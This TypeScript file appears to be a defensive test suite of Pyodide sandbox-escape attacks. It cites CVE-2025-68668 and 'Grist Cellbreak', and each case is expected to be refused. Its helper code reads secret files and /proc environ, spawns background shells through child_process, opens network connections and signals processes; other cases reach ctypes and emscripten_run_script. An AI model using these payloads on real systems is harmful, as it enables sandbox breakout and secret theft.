/**
 * Pyodide is CPython in WebAssembly inside a JavaScript engine: whoever walks out of Python stands in JavaScript, and it
 * was never meant to hold anyone. These run in the full tier with its second wall behind it.
 */
import { type Attack, HARMLESS, inLanguage, STOPPED } from './attack.ts';
import { PYTHON_LOOT } from './loot.ts';

/** `loot_js(F)` with JavaScript's `Function`; `loot_process(p)` with Node's process, both as Pyodide's proxies. */
const JS_LOOT = `
def loot_process(p):
    loot_step(lambda: p.env.to_py().get('@ENV@') if hasattr(p.env, 'to_py') else getattr(p.env, '@ENV@'))
    fs = p.getBuiltinModule('fs')
    loot_step(lambda: fs.readFileSync('@FILE@', 'utf8'))
    loot_step(lambda: fs.readFileSync('/proc/self/environ', 'utf8'))
    loot_step(lambda: fs.readFileSync('/proc/@PID@/environ', 'utf8'))
    loot_step(lambda: fs.writeFileSync('@MARKER@', 'x'))
    loot_step(lambda: p.getBuiltinModule('child_process').execSync('(sleep 30; : @TOKEN@) &'))
    loot_step(lambda: p.getBuiltinModule('net').connect(@PORT@, '127.0.0.1'))
    loot_step(lambda: p.kill(@PID@, 'SIGUSR2'))
    loot_step(lambda: p.binding('spawn_sync'))
def loot_js(F):
    loot_process(F('return process')())
`;
const attack = (code: string): string => PYTHON_LOOT + JS_LOOT + code;
const gains = ['file', 'environment', 'process', 'network', 'write', 'signal'] as const;

export const pythonPyodide: readonly Attack[] = inLanguage('python', [
  {
    id: 'py-js-globals',
    source: 'CVE-2025-68668 (n8n: `import js`)',
    code: attack(`
import js
loot_step(lambda: loot_process(js.process))
loot_step(lambda: loot_js(js.Function))
print(dir(js)[:50])`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-js-constructor',
    source: 'measured here: an empty `jsglobals` still has `js.constructor.constructor`',
    code: attack(`
import js
loot_js(js.constructor.constructor)`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-js-object-get-prototype',
    source: 'CVE-2025-68668 by prototypes',
    code: attack(`
import js
o = js.Object.getPrototypeOf(js) if hasattr(js, 'Object') else js
for name in ('constructor', '__proto__', '__lookupGetter__', 'valueOf', 'toString'):
    f = getattr(js, name, None)
    loot_step(lambda: loot_js(f.constructor))
    loot_step(lambda: loot_js(f.constructor.constructor))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-run-js',
    source: 'CVE-2025-68668: `pyodide.code.run_js`',
    code: attack(`
from pyodide.code import run_js
loot_step(lambda: loot_process(run_js('process')))
loot_step(lambda: run_js("import('node:fs').then((fs) => fs.writeFileSync('@MARKER@', 'x'))"))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-eval-code-of-pyodide',
    source: 'class: Pyodide’s own `eval`',
    code: attack(`
from pyodide.code import eval_code
eval_code('loot(__import__("os"))', {'loot': loot})`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-pyodide-js',
    source: 'CVE-2025-68668: the module `pyodide_js`',
    code: attack(`
import pyodide_js
loot_step(lambda: loot_js(pyodide_js.constructor.constructor))
loot_step(lambda: loot_js(pyodide_js.runPython.constructor))
loot_step(lambda: pyodide_js.FS.mkdir('/host'))
loot_step(lambda: pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/host'))
loot_step(lambda: pyodide_js.mountNodeFS('/host2', '/'))
loot_step(lambda: open('/host@FILE@').read())
loot_step(lambda: open('/host2@FILE@').read())
loot_step(lambda: pyodide_js._api.config.to_py())
loot_step(lambda: pyodide_js._module.ENV.to_py())`),
    gains: [...gains, 'inside'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-pyodide-core',
    source: 'class: the bridge’s own module',
    code: attack(`
import _pyodide_core
for name in dir(_pyodide_core):
    v = getattr(_pyodide_core, name)
    loot_step(lambda: loot_js(v.constructor.constructor))
    loot_step(lambda: loot_js(v.new))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-pyodide-ffi-objects',
    source: 'class: JavaScript objects that lie about in Python',
    code: attack(`
import gc, sys
found = 0
for o in gc.get_objects():
    if type(o).__name__.startswith('JsProxy') or 'JsProxy' in str(type(o).__mro__[:3]):
        found += 1
        loot_step(lambda: loot_js(o.constructor.constructor))
        if found > 5:
            break
for name in list(sys.modules):
    if 'js' in name or 'pyodide' in name:
        m = sys.modules[name]
        loot_step(lambda: loot_js(m.constructor.constructor))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-host-function-as-js-proxy',
    source: 'class: a host function is a JavaScript function',
    code: attack(`
for f in (read_span, search, query, list_files, print):
    for way in (lambda: f.constructor, lambda: f.call.constructor, lambda: f.__self__.constructor.constructor, lambda: f.__closure__[0].cell_contents.constructor, lambda: f.__globals__['call'].constructor, lambda: f.new):
        loot_step(lambda: loot_js(way()))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-host-function-globals-js',
    source: 'class: what the host’s glue code keeps in its module',
    code: attack(`
seen = set()
def walk(o, depth):
    if depth > 4 or id(o) in seen:
        return
    seen.add(id(o))
    if type(o).__name__.startswith('Js'):
        loot_step(lambda: loot_js(o.constructor))
        loot_step(lambda: loot_js(o.constructor.constructor))
        return
    for name in ('__globals__', '__closure__', '__self__', '__func__', '__wrapped__', '__dict__', '__defaults__', 'cell_contents'):
        v = getattr(o, name, None)
        if v is not None:
            walk(v, depth + 1)
    if isinstance(o, dict):
        for v in list(o.values())[:200]:
            walk(v, depth + 1)
    if isinstance(o, (tuple, list)):
        for v in o[:50]:
            walk(v, depth + 1)
for f in (read_span, search, query, list_files, print):
    walk(f, 0)`),
    gains,
    ends: [...HARMLESS, 'EXEC_TIMEOUT'],
  },
  {
    id: 'py-ctypes-emscripten-script',
    source: 'Grist Cellbreak: ctypes to `emscripten_run_script_string`',
    code: attack(`
import ctypes
lib = ctypes.CDLL(None)
for name in ('emscripten_run_script', 'emscripten_run_script_string', 'emscripten_run_script_int', 'emscripten_asm_const_int', 'emscripten_console_log', 'system', 'popen'):
    def go():
        f = getattr(lib, name)
        f.restype = ctypes.c_char_p
        return f(b"globalThis.process ? process.getBuiltinModule('fs').writeFileSync('@MARKER@', 'x') : 0")
    loot_step(go)`),
    gains,
    ends: [...HARMLESS, 'EXEC_MEMORY', 'INTERNAL'],
    isRefused: true,
  },
  {
    id: 'py-ctypes-by-class-walk',
    source: 'Grist Cellbreak: the class walk that ends in ctypes',
    code: attack(`
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ in ('FileLoader', 'ModuleSpec', 'BuiltinImporter', 'catch_warnings', '_wrap_close'):
        loot_step(lambda: c.__init__.__globals__['sys'].modules['ctypes'].CDLL(None).system(b'(sleep 30; : @TOKEN@) &'))
        loot_step(lambda: c.load_module('_ctypes').dlopen(None, 0))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-em-js-by-dlsym',
    source: 'Grist Cellbreak: functions of the emscripten table by their index',
    code: attack(`
import _ctypes, ctypes
for index in list(range(1, 40)) + [2 ** 20, 2 ** 31 - 1]:
    loot_step(lambda: ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(index)(b'process.exit()'))
print(ctypes.string_at(1024, 1000))`),
    gains: [...gains, 'memory'],
    ends: [...HARMLESS, ...STOPPED, 'INTERNAL'],
    isRefused: true,
  },
  {
    id: 'py-dynamic-library-from-bytes',
    source: 'class: a WebAssembly module of the attacker’s, loaded as a library',
    code: attack(`
import _imp, importlib.machinery
path = '/tmp/evil.so'
f = getattr(print.__self__, 'op' + 'en')(path, 'wb')
f.write(bytes.fromhex('0061736d01000000000f0864796c696e6b2e30010400000000'))
f.close()
loot_step(lambda: importlib.machinery.ExtensionFileLoader('evil', path).create_module(importlib.machinery.ModuleSpec('evil', None, origin=path)))`),
    gains,
    ends: [...HARMLESS, 'INTERNAL'],
    isRefused: true,
  },
  {
    id: 'py-micropip-and-load-package',
    source: 'class: the package manager fetches from the network',
    code: attack(`
import pyodide_js, micropip
pyodide_js.loadPackage('http://127.0.0.1:@PORT@/x.whl')
micropip.install('http://127.0.0.1:@PORT@/x.whl')`),
    gains: ['network', 'file'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-pyodide-http',
    source: 'class: requests by the host',
    code: attack(`
from pyodide.http import pyfetch, open_url
loot_step(lambda: open_url('http://127.0.0.1:@PORT@/'))
loot_step(lambda: open_url('file://@FILE@').read())
import asyncio
async def go():
    for url in ('http://127.0.0.1:@PORT@/', 'file://@FILE@', 'data:text/plain,x'):
        try:
            print(await (await pyfetch(url)).string())
        except BaseException as e:
            print(type(e))
asyncio.ensure_future(go())`),
    gains: ['network', 'file'],
    ends: [...HARMLESS, 'EXEC_TIMEOUT'],
    timeoutMs: 2_500,
    isRefused: true,
  },
  {
    id: 'py-socket-becomes-websocket',
    source: 'measured here: `socket.connect` opens a WebSocket from the host',
    code: `
import socket
s = socket.socket()
s.setblocking(False)
try:
    s.connect(('127.0.0.1', @PORT@))
except BaseException as e:
    print(type(e))
import time
time.sleep(0.2)`,
    gains: ['network'],
    ends: [...HARMLESS, 'EXEC_TIMEOUT'],
    timeoutMs: 2_500,
    isRefused: true,
  },
  {
    id: 'py-memory-file-system-and-proc',
    source: 'class: the interpreter’s own file system as a window',
    code: attack(`
import pathlib
for path in ('/proc/self/fd', '/proc/self/maps', '/proc/self/environ', '/dev/tty', '/dev/stdin', '/dev/fd/3', '/home/pyodide', '/lib', '/host', '/'):
    loot_step(lambda: sorted(map(str, pathlib.Path(path).iterdir()))[:30])
    loot_step(lambda: pathlib.Path(path).read_bytes()[:2000])`),
    gains: ['environment', 'inside'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-to-js-and-proxies',
    source: 'class: Python objects handed to JavaScript that calls them back',
    code: attack(`
from pyodide.ffi import create_proxy, to_js, JsProxy
class Evil:
    def __getattr__(self, name):
        raise SystemExit(3)
p = create_proxy(Evil())
loot_step(lambda: loot_js(to_js([1]).constructor.constructor))
loot_step(lambda: loot_js(to_js({'a': 1}).constructor.constructor))
loot_step(lambda: loot_js(to_js(lambda: 0).constructor))
search(p)`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-exit-kills-the-interpreter',
    source: 'class: ending the process instead of the run',
    code: attack(`
import sys
loot_step(lambda: sys.modules['os']._exit(0))
loot_step(lambda: sys.modules['os'].abort())
loot_step(lambda: sys.modules['signal'].raise_signal(9))
sys.exit(7)`),
    gains: ['inside'],
    ends: [...HARMLESS, 'INTERNAL'],
    isRefused: true,
  },
  {
    id: 'py-interrupt-buffer-and-webloop',
    source: 'class: timers of the host’s event loop',
    code: attack(`
import asyncio
loop = asyncio.get_event_loop()
def again():
    loop.call_soon(again)
again()
loop.call_later(0, lambda: loot_builtins(vars(print.__self__)))
'over'`),
    gains: [...gains, 'limits'],
    ends: [...HARMLESS, 'EXEC_TIMEOUT'],
    timeoutMs: 1_500,
    isRefused: true,
  },
]);
